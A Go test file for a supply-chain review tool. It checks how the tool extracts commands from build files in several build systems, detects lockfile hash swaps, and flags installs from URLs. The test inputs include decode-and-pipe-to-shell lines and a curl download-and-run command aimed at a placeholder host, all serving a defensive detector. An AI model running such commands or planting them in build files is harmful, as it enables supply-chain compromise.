package rules

import (
	"slices"
	"strings"
	"testing"
)

func numbered(text string) []NumLine {
	var out []NumLine
	for i, t := range strings.Split(text, "\n") {
		out = append(out, NumLine{i + 1, t})
	}
	return out
}

func TestCommandsOf(t *testing.T) {
	tests := []struct {
		system, text string
		want         []Command
	}{
		// execute_process runs its COMMANDs as one pipeline, numbered by
		// the last one's line.
		{"cmake", "execute_process(\n  COMMAND xz -dc \"${f}\"\n  COMMAND sh\n  OUTPUT_QUIET)", []Command{{3, `xz -dc "${f}" | sh`}}},
		// add_custom_command's COMMANDs run one after another.
		{"cmake", "add_custom_command(OUTPUT a.h\n  COMMAND gen a.h\n  COMMAND touch b\n  VERBATIM)", []Command{{2, "gen a.h"}, {3, "touch b"}}},
		// sh -c's script is the command, on the script's line.
		{"meson", "r = run_command('sh', '-c',\n  'base64 -d x | sh', check : false)", []Command{{2, "base64 -d x | sh"}}},
		// A genrule's cmd ends at its comma: outs is not a command.
		{"starlark", "genrule(\n    cmd = \"curl -o $@ https://x.invalid/a\",\n    outs = [\"a.h\"],\n)", []Command{{2, "curl -o $@ https://x.invalid/a"}}},
		{"msbuild", `<Exec Command="curl -s https://x.invalid/a &amp;&amp; sh a" />`, []Command{{1, "curl -s https://x.invalid/a && sh a"}}},
		// Composer: @php runs PHP; other scripts and PHP callbacks are not commands.
		{"composer", "{\n  \"scripts\": {\n    \"post-install-cmd\": [\"@php -r \\\"echo 1;\\\"\", \"@other\", \"App\\\\Hooks::run\"]\n  }\n}", []Command{{3, `php -r "echo 1;"`}}},
		{"maven", "<argument>-c</argument>\n<argument>gzip -dc t.gz | sh</argument>", []Command{{2, "gzip -dc t.gz | sh"}}},
	}
	for _, tt := range tests {
		if got := CommandsOf(tt.system, numbered(tt.text)); !slices.Equal(got, tt.want) {
			t.Errorf("%s %q: got %+v, want %+v", tt.system, tt.text, got, tt.want)
		}
	}
}

func TestHashSwaps(t *testing.T) {
	tests := []struct {
		removed, added []string
		want           []int
	}{
		{[]string{"m v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}, []string{"m v1.0.0 h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="}, []int{0}},
		// A version bump changes more than the hash.
		{[]string{"m v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}, []string{"m v1.1.0 h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="}, nil},
		// npm's move from sha1 to sha512 is another algorithm, not other content.
		{[]string{`"integrity": "sha1-D6LGT5MpF8NDOg3tVTY6rjdBa3w="`}, []string{`"integrity": "sha512-k/vGaX4/Yla3WzyMCvTQOXYeIHvqOKtnqBduzTHpzpQZ=="`}, nil},
		// A git dependency's commit moves with its branch.
		{[]string{`source = "git+https://x.invalid/r#0cbf1a5adae81e8ff86ca6d040aeee67cf888262"`}, []string{`source = "git+https://x.invalid/r#4e3268d222c45e5d6a0e7a4c0d3d5b1f1e6a2c9d"`}, nil},
	}
	for _, tt := range tests {
		if got := HashSwaps(tt.removed, tt.added); !slices.Equal(got, tt.want) {
			t.Errorf("%q -> %q: got %v, want %v", tt.removed, tt.added, got, tt.want)
		}
	}
}

func TestInstallFromURL(t *testing.T) {
	tests := []struct {
		line    string
		ok, git bool
	}{
		{"npm install https://x.invalid/a-1.0.0.tgz", true, false},
		{"pip install git+https://x.invalid/o/r.git", true, true},
		{"cargo install tool --git https://x.invalid/o/r", true, true},
		// An index option's value is not the package.
		{"pip install --index-url https://pypi.org/simple requests", false, false},
		{"npm install left-pad", false, false},
	}
	for _, tt := range tests {
		if ok, git := InstallFromURL(tt.line); ok != tt.ok || git != tt.git {
			t.Errorf("%q: got %v %v, want %v %v", tt.line, ok, git, tt.ok, tt.git)
		}
	}
}
